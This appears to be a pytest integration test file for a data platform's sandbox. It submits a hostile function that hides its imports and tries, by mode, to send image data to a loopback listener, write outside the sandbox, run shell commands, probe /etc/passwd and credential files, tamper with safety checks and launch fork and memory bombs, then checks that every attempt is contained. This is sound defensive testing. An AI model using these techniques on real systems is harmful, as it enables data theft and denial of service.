"""A mistaken approval is contained: hostile code approved on a real datasite, called over HTTP.

One site (small sandbox limits so the bombs end quickly) holds a uint8 image asset and its
labels. The researcher submits one hostile function that hides its imports from the review
(``__builtins__`` tricks) and declares the platform's output schema; the admin approves it
with ``--accept-risk``. Each case calls it with another ``mode``. For every case: the loopback
listener receives nothing, no file appears outside the sandbox, no private value or secret
comes back, the researcher gets a short reason, the audit log names what happened, and the
site still answers a benign call afterwards.
"""

from __future__ import annotations

import pickle
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from datasite.audit.log import AuditLog
from datasite.sandbox import bwrap
from datasite.syftio.client import admin_login, login, upload_dataset
from fedcommon.task_schema import SCHEMA_ARGUMENT, OutputSchema
from lab.process import SiteProcess
from tests.conftest import ADMIN, RESEARCHER_PASSWORD, SiteFactory, add_user, run_cli

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(bwrap.probe() is not None, reason="bubblewrap cannot start here"),
]
RESEARCHER = "mallory@uni.example"
LIMITS = ["--sandbox-memory-mb", "768", "--sandbox-wall-s", "15", "--sandbox-cpu-s", "15"]
RNG = np.random.default_rng(7)
IMAGES = RNG.integers(0, 256, size=(64, 16, 16), dtype=np.uint8)
LABELS = RNG.integers(0, 2, size=64).astype(np.int64)
WEIGHTS = {"w": np.zeros((16, 16), dtype=np.float32)}
SCHEMA = OutputSchema.derive(WEIGHTS, {"loss"}).model_dump(mode="json")


class Listener:
    """A loopback TCP server that counts every byte anyone sends it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = 0
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                while chunk := conn.recv(65536):
                    self.received += len(chunk)


def hostile(images, labels, weights, mode, port, target, data_dir, output_schema):  # type: ignore[no-untyped-def]
    b = __builtins__
    imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
    reply = {"n_samples": 1, "metrics": {"loss": 0.5}}
    if mode == "socket":
        imp("socket").create_connection(("127.0.0.1", port), timeout=2).sendall(images.tobytes())
    elif mode == "http_post":
        request = imp("urllib.request")
        request.urlopen(f"http://127.0.0.1:{port}/", data=images.tobytes(), timeout=2)
    elif mode == "write_file":
        with open(target + "/written", "w") as handle:
            handle.write("escaped")
    elif mode == "subprocess":
        imp("subprocess").run(["touch", target + "/by-subprocess"], check=False)
        imp("os").system("touch " + target + "/by-system")
    elif mode == "ctypes":
        imp("ctypes").CDLL(None).system(("touch " + target + "/by-ctypes").encode())
    elif mode == "read_secrets":
        os = imp("os")
        paths = (data_dir + "/identity.json", data_dir + "/state/site.db", "/etc/passwd")
        found = 10 * sum(os.path.exists(p) for p in paths)
        found += sum("PASSWORD" in k or "SYFT_TEMP" in k for k in os.environ)
        reply["metrics"] = {"loss": float(found)}
    elif mode == "lingering_thread":

        def later():  # type: ignore[no-untyped-def]
            imp("time").sleep(1)
            imp("socket").create_connection(("127.0.0.1", port), timeout=2).sendall(b"late")

        imp("threading").Thread(target=later).start()
    elif mode == "tamper":
        imp("numpy").isfinite = None  # the site's egress check uses numpy.isfinite
        imp("sys").modules["datasite.sandbox.policy"] = None
    elif mode == "raw_images":
        reply["weights"] = {"w": images.astype("float32")}
    elif mode == "extra_key":
        reply["leak"] = float(images[0, 0, 0])
    elif mode == "undeclared_metric":
        reply["metrics"] = {"pixel": float(images[0, 0, 0])}
    elif mode == "weights_copy":
        reply["weights"] = {"w": (images[0] / 255.0).astype("float32")}
    elif mode == "lying_count":
        reply["n_samples"] = 10**9
    elif mode == "fork_bomb":
        while True:
            try:  # noqa: SIM105 - the function must stay self-contained
                imp("os").fork()
            except OSError:
                pass
    elif mode == "memory_bomb":
        blocks = []
        while True:
            blocks.append(bytearray(64 * 2**20))
    elif mode == "infinite_loop":
        while True:
            pass
    return reply


def leak_plain(images, labels, what):  # type: ignore[no-untyped-def]
    """No declared schema: the site's no-schema rule judges the output."""
    if what == "images":
        return {"x": images}
    return {"labels": labels.tolist()}


def count_labels(labels):  # type: ignore[no-untyped-def]
    return {"n": len(labels), "positive": int(labels.sum())}


def take_payload(labels, payload):  # type: ignore[no-untyped-def]
    return {"n": len(payload)}


@pytest.fixture(scope="module")
def listener() -> Listener:
    return Listener()


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("outside-the-sandbox")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteProcess]:
    factory = SiteFactory(tmp_path_factory.mktemp("containment"))
    site = factory.start("contain", extra_args=LIMITS)
    add_user(site.url, RESEARCHER, "researcher")
    upload_dataset(admin_login(site.url, ADMIN), "xray", "images", {
        "images": (IMAGES, RNG.integers(0, 256, size=IMAGES.shape, dtype=np.uint8)),
        "labels": (LABELS, RNG.integers(0, 2, size=LABELS.shape).astype(np.int64)),
    })  # fmt: skip
    try:
        yield site
    finally:
        factory.stop_all()


def submit(ds: Any, function: Any, limit: int, **bindings: Any) -> None:
    import syft as sy
    from syft.service.policy.policy import OutputPolicyExecuteCount

    policy = sy.MixedInputPolicy(client=ds, **bindings)
    wrapped = sy.syft_function(
        input_policy=policy, output_policy=OutputPolicyExecuteCount(limit=limit)
    )(function)
    ds.code.request_code_execution(wrapped)


def request_id(site: SiteProcess, function: str) -> str:
    for request in admin_login(site.url, ADMIN).requests:
        if request.code.service_func_name == function:
            return str(request.id.no_dash)
    raise AssertionError(f"no request for {function}")


@pytest.fixture(scope="module")
def researcher(site: SiteProcess, listener: Listener, outside: Path) -> Any:
    ds = login(site.url, RESEARCHER, RESEARCHER_PASSWORD)
    assets = ds.datasets["xray"].assets
    both = {"images": assets["images"], "labels": assets["labels"]}
    submit(ds, hostile, 40, **both, weights=dict, mode=str, **constants(site, listener, outside))
    submit(ds, count_labels, 40, labels=assets["labels"])
    submit(ds, take_payload, 5, labels=assets["labels"], payload=dict)
    submit(ds, leak_plain, 5, **both, what=str)
    for function in ("count_labels", "take_payload", "leak_plain"):
        rid = request_id(site, function)
        approved = run_cli("requests", "approve", "--url", site.url, rid, "--accept-risk")
        assert approved.returncode == 0, approved.stdout + approved.stderr
    return ds


def constants(site: SiteProcess, listener: Listener, outside: Path) -> dict[str, Any]:
    import syft as sy

    values = {"port": listener.port, "target": str(outside), "data_dir": str(site.data_dir),
              SCHEMA_ARGUMENT: SCHEMA}  # fmt: skip
    return {name: sy.Constant(val=value) for name, value in values.items()}


@pytest.fixture(scope="module")
def hostile_approved(site: SiteProcess, researcher: Any) -> Any:
    """The admin's mistake (after the acknowledgement test, when run in file order)."""
    run_cli("requests", "approve", "--url", site.url, request_id(site, "hostile"), "--accept-risk")
    return researcher


def test_high_risk_approval_needs_the_acknowledgement(site: SiteProcess, researcher: Any) -> None:
    from syft.types.errors import SyftException

    rid = request_id(site, "hostile")
    shown = run_cli("requests", "show", "--url", site.url, rid).stdout
    assert "output    declared: 1 weight arrays (256 parameters), metrics loss" in shown
    plain = run_cli("requests", "show", "--url", site.url, request_id(site, "leak_plain")).stdout
    assert "output    none declared" in plain
    refused = run_cli("requests", "approve", "--url", site.url, rid)
    assert refused.returncode != 0 and "--accept-risk" in refused.stdout + refused.stderr
    request = next(r for r in admin_login(site.url, ADMIN).requests if r.id.no_dash == rid)
    with pytest.raises(SyftException, match="accept-risk"):  # any client: refused in the site
        request.approve(disable_warnings=True)

    approved = run_cli("requests", "approve", "--url", site.url, rid, "--accept-risk")

    assert approved.returncode == 0, approved.stdout + approved.stderr
    events = [(r["event"], r["details"]) for r in audit_records(site)]
    accepted = [d for e, d in events if e == "risk_accepted" and d["request_id"] == rid]
    assert accepted and accepted[0]["high"], "the acknowledgement names the HIGH findings"
    assert any(e == "approval_refused" and d["request_id"] == rid for e, d in events)
    assert any(e == "approved" and d.get("risk_accepted_seq") for e, d in events)


def audit_records(site: SiteProcess) -> list[dict[str, Any]]:
    return AuditLog(site.data_dir / "audit").records()


def call(ds: Any, mode: str) -> tuple[Any, str | None]:
    assets = ds.datasets["xray"].assets
    both = {"images": assets["images"], "labels": assets["labels"]}
    try:
        if mode in ("images", "labels_list"):
            return ds.code.leak_plain(**both, what=mode).get(), None
        return ds.code.hostile(**both, weights=WEIGHTS, mode=mode).get(), None
    except Exception as err:  # noqa: BLE001 - the refusal is what we look at
        return None, str(err)


def last_execution(site: SiteProcess) -> dict[str, Any]:
    executed: list[dict[str, Any]] = [
        r["details"] for r in audit_records(site) if r["event"] == "executed"
    ]
    return executed[-1]


def assert_site_still_serves(site: SiteProcess, ds: Any) -> None:
    assets = ds.datasets["xray"].assets
    counted = ds.code.count_labels(labels=assets["labels"]).get()
    assert counted == {"n": 64, "positive": int(LABELS.sum())}
    assert last_execution(site)["sandbox"]["verdict"] == "ok"


CASES = [
    # mode, the audit's verdict, the limit or rule it names (None: the code's own error)
    ("socket", "error", None),
    ("http_post", "error", None),
    ("write_file", "error", None),
    ("subprocess", "ok", None),
    ("ctypes", "ok", None),
    ("read_secrets", "ok", None),
    ("lingering_thread", "ok", None),
    ("tamper", "ok", None),
    ("raw_images", "refused", "weights_mismatch"),
    ("images", "refused", "asset_shaped_array"),
    ("labels_list", "refused", "per_sample_list"),
    ("extra_key", "refused", "extra_key"),
    ("undeclared_metric", "refused", "schema_mismatch"),
    ("weights_copy", "refused", "private_values_copied"),
    ("lying_count", "refused", "implausible_count"),
    ("fork_bomb", "killed", {"processes", "wall_time", "cpu_time"}),
    ("memory_bomb", "killed", {"memory"}),
    ("infinite_loop", "killed", {"wall_time", "cpu_time"}),
]


@pytest.mark.parametrize(("mode", "verdict", "named"), CASES, ids=[c[0] for c in CASES])
def test_hostile_call_is_contained(
    site: SiteProcess, hostile_approved: Any, listener: Listener, outside: Path,
    mode: str, verdict: str, named: Any,
) -> None:  # fmt: skip
    value, error = call(hostile_approved, mode)

    record = last_execution(site)
    assert record["sandbox"]["verdict"] == verdict, record
    if isinstance(named, set):
        assert record["sandbox"]["limit"] in named, record
    elif named is not None:
        assert record["sandbox"]["rule"] == named, record
        assert error is not None and named in error  # the short reason, nothing more
    if verdict == "ok":
        assert value == {"n_samples": 1, "metrics": {"loss": 0.0 if mode == "read_secrets"
                                                              else 0.5}}  # fmt: skip
    else:
        assert value is None and error is not None
        assert "Traceback" not in error and ADMIN.password not in error
    assert listener.received == 0 and listener.connections == 0
    assert list(outside.iterdir()) == []
    assert_site_still_serves(site, hostile_approved)


def test_a_pickled_argument_is_refused_before_any_code_runs(
    site: SiteProcess, researcher: Any
) -> None:
    payload = {"blob": pickle.dumps({"anything": 1})}  # a pickle, as syft would carry it
    labels = researcher.datasets["xray"].assets["labels"]

    with pytest.raises(Exception, match="argument_type"):
        researcher.code.take_payload(labels=labels, payload=payload).get()

    record = last_execution(site)
    assert record["function"] == "take_payload"
    assert record["sandbox"] == {**record["sandbox"], "verdict": "refused", "rule": "argument_type"}
    assert_site_still_serves(site, researcher)


def test_site_records_that_it_runs_code_sealed(site: SiteProcess) -> None:
    started = next(r for r in audit_records(site) if r["event"] == "site_started")
    assert started["details"]["execution"] == "sealed"


@pytest.mark.parametrize("skip", ["", "sealed_execution"], ids=["sealed", "unpatched"])
def test_hostile_code_escapes_only_without_the_sealed_worker(
    sites: SiteFactory, tmp_path: Path, skip: str
) -> None:
    """The proof of the sealed_execution patch: the same approved calls, with and without.
    Without it the code reaches the network, the host's files and the site's data dir (but
    not the admin password or a data-dir path in the environment: those are removed)."""
    listener, outside = Listener(), tmp_path / "outside"
    outside.mkdir()
    site = sites.start("proof", extra_env={"DATASITE_UNSAFE_SKIP_FIXES": skip})
    add_user(site.url, RESEARCHER, "researcher")
    upload_dataset(admin_login(site.url, ADMIN), "xray", "images",
                   {"images": (IMAGES, IMAGES), "labels": (LABELS, LABELS)})  # fmt: skip
    ds = login(site.url, RESEARCHER, RESEARCHER_PASSWORD)
    assets = ds.datasets["xray"].assets
    submit(ds, hostile, 5, images=assets["images"], labels=assets["labels"], weights=dict,
           mode=str, **constants(site, listener, outside))  # fmt: skip
    run_cli("requests", "approve", "--url", site.url, request_id(site, "hostile"), "--accept-risk")

    call(ds, "socket")
    call(ds, "write_file")
    secrets, _ = call(ds, "read_secrets")

    escaped = listener.received > 0 and (outside / "written").exists()
    assert escaped is bool(skip)
    # 10 per file seen (identity.json, site.db, /etc/passwd), 1 per secret in the environment
    assert secrets["metrics"]["loss"] == (30.0 if skip else 0.0)
    started = next(r for r in audit_records(site) if r["event"] == "site_started")
    assert started["details"]["execution"] == ("in_process_unpatched" if skip else "sealed")
